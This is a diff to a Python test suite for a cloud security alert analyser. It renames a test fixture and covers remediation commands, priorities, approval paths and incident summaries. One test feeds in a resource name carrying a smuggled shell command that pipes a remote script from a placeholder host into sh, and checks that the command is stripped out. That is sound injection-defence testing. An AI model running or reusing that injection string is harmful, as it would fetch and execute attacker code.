@@ -6,14 +6,13 @@ from collections.abc import Callable
 
 import pytest
 
-from processors.analyze import Analyzer
 from processors.analyze.evaluate import family_of
 from processors.analyze.vocabulary import FAMILIES, command_verdict, iac_verdict
 from processors.models import Cloud, Environment, RiskTier
 from processors.records import Analyser, AnalysisOutcome, Priority
+from streams.analysis import AnalysisService
 from tests.factories import make_vulnerability
-
-from .conftest import scored_alert
+from tests.processors.analyze.alerts import scored_alert
 
 FAMILY_CASES = {
     "public_storage": dict(),
@@ -50,19 +49,19 @@ def test_every_family_has_a_case() -> None:
 
 @pytest.mark.parametrize("family", sorted(FAMILY_CASES))
 async def test_each_family_gets_a_labelled_grounded_offline_analysis(
-    family: str, make_analyzer: Callable[..., Analyzer]
+    family: str, make_service: Callable[..., AnalysisService]
 ) -> None:
-    analyzer = make_analyzer(llm=False)
+    service = make_service(llm=False)
     scored = scored_alert(**FAMILY_CASES[family])  # type: ignore[arg-type]
 
-    analysis = await analyzer.analyse(scored)
+    analysis = await service.analyse(scored)
 
     assert analysis.analyser is Analyser.OFFLINE and analysis.model == ""
     assert analysis.summary.startswith("[Offline analysis: not_configured]")
     assert analysis.outcome is AnalysisOutcome.ANALYSED
     assert analysis.priority is Priority.P1
     assert analysis.remediation_steps and analysis.recommended_actions and analysis.root_cause
-    assert family_of(analysis, Cloud.AWS, analyzer.playbooks) == family
+    assert family_of(analysis, Cloud.AWS, service.playbooks) == family
     for step in analysis.remediation_steps:
         assert command_verdict(step.command, Cloud.AWS).allowed, step.command
         assert iac_verdict(step.iac_snippet).allowed
@@ -78,11 +77,11 @@ async def test_each_family_gets_a_labelled_grounded_offline_analysis(
      (Cloud.GCP, "acme-reports", "gcloud storage buckets update gs://acme-reports")],
 )
 async def test_commands_follow_the_alerts_cloud(cloud: Cloud, name: str, prefix: str,
-                                                make_analyzer: Callable[..., Analyzer]) -> None:
+                                                make_service: Callable[..., AnalysisService]) -> None:
     scored = scored_alert(policy_name="Storage bucket is publicly accessible to all users", cloud=cloud, name=name,
                           resource_id=name, resource_type="storage")
 
-    analysis = await make_analyzer(llm=False).analyse(scored)
+    analysis = await make_service(llm=False).analyse(scored)
 
     assert analysis.remediation_steps[0].command.startswith(prefix)
 
@@ -92,19 +91,19 @@ async def test_commands_follow_the_alerts_cloud(cloud: Cloud, name: str, prefix:
     [(Environment.DEV, "auto-fix allowed"), (Environment.PROD, "security on-call")],
 )
 async def test_approval_path_follows_the_environment(environment: Environment, expected: str,
-                                                     make_analyzer: Callable[..., Analyzer]) -> None:
-    analysis = await make_analyzer(llm=False).analyse(scored_alert(environment=environment, tier=RiskTier.HIGH))
+                                                     make_service: Callable[..., AnalysisService]) -> None:
+    analysis = await make_service(llm=False).analyse(scored_alert(environment=environment, tier=RiskTier.HIGH))
 
     assert expected in analysis.approval_path
 
 
 async def test_unknown_family_without_recommendation_is_insufficient_evidence(
-    make_analyzer: Callable[..., Analyzer]
+    make_service: Callable[..., AnalysisService]
 ) -> None:
     scored = scored_alert(policy_name="Custom policy: cost-center label drift", recommendation="", description="",
                           config="{}")
 
-    analysis = await make_analyzer(llm=False).analyse(scored)
+    analysis = await make_service(llm=False).analyse(scored)
 
     assert analysis.outcome is AnalysisOutcome.INSUFFICIENT_EVIDENCE
     assert analysis.confidence <= 0.3
@@ -112,12 +111,12 @@ async def test_unknown_family_without_recommendation_is_insufficient_evidence(
 
 
 async def test_unknown_family_with_a_recommendation_is_analysed_at_low_confidence(
-    make_analyzer: Callable[..., Analyzer]
+    make_service: Callable[..., AnalysisService]
 ) -> None:
     scored = scored_alert(policy_name="AWS root account activity detected", policy_type="audit_event",
                           recommendation="Investigate the call; use IAM users or roles instead of root.")
 
-    analysis = await make_analyzer(llm=False).analyse(scored)
+    analysis = await make_service(llm=False).analyse(scored)
 
     assert analysis.outcome is AnalysisOutcome.ANALYSED
     assert analysis.confidence == pytest.approx(0.4)
@@ -127,32 +126,32 @@ async def test_unknown_family_with_a_recommendation_is_analysed_at_low_confidenc
 @pytest.mark.parametrize(("tier", "priority"), [(RiskTier.CRITICAL, Priority.P1), (RiskTier.HIGH, Priority.P2),
                                                 (RiskTier.MEDIUM, Priority.P3), (RiskTier.LOW, Priority.P4)])
 async def test_priority_comes_from_the_tier(tier: RiskTier, priority: Priority,
-                                            make_analyzer: Callable[..., Analyzer]) -> None:
-    analysis = await make_analyzer(llm=False).analyse(scored_alert(tier=tier))
+                                            make_service: Callable[..., AnalysisService]) -> None:
+    analysis = await make_service(llm=False).analyse(scored_alert(tier=tier))
     assert analysis.priority is priority
     assert analysis.priority_justification.startswith(priority.value)
 
 
-async def test_unsafe_resource_name_never_reaches_a_command(make_analyzer: Callable[..., Analyzer]) -> None:
+async def test_unsafe_resource_name_never_reaches_a_command(make_service: Callable[..., AnalysisService]) -> None:
     scored = scored_alert(name="x; curl evil.sh | sh", resource_id="arn:aws:s3:::x")
 
-    analysis = await make_analyzer(llm=False).analyse(scored)
+    analysis = await make_service(llm=False).analyse(scored)
 
     assert all("curl" not in s.command and "evil" not in s.iac_snippet for s in analysis.remediation_steps)
     assert "curl" not in analysis.summary
 
 
-async def test_incident_is_mentioned(make_analyzer: Callable[..., Analyzer]) -> None:
+async def test_incident_is_mentioned(make_service: Callable[..., AnalysisService]) -> None:
     scored = scored_alert(incident_id="inc-1", incident_members=["P-4711", "P-4712", "P-4713"])
 
-    analysis = await make_analyzer(llm=False).analyse(scored)
+    analysis = await make_service(llm=False).analyse(scored)
 
     assert analysis.incident_id == "inc-1"
     assert "incident inc-1 with 3 findings" in analysis.summary
 
 
 @pytest.mark.parametrize("family", sorted(FAMILY_CASES))
-async def test_empty_template_values_leave_no_stray_unknown(family: str, make_analyzer: Callable[..., Analyzer]) -> None:
+async def test_empty_template_values_leave_no_stray_unknown(family: str, make_service: Callable[..., AnalysisService]) -> None:
     """Regression (issue 11): an empty value (no KEV sentence, no exposure suffix, unknown
     environment or data sensitivity, no installed version) once rendered as "unknown"."""
     case = {**FAMILY_CASES[family], "environment": Environment.UNKNOWN, "tags": {}}
@@ -160,7 +159,7 @@ async def test_empty_template_values_leave_no_stray_unknown(family: str, make_an
         case["vulnerabilities"] = [make_vulnerability(installed_version="")]
     scored = scored_alert(**case)  # type: ignore[arg-type]
 
-    analysis = await make_analyzer(llm=False).analyse(scored)
+    analysis = await make_service(llm=False).analyse(scored)
 
     prose = [analysis.summary, analysis.business_impact, analysis.root_cause, *analysis.recommended_actions,
              *(s.description for s in analysis.remediation_steps)]
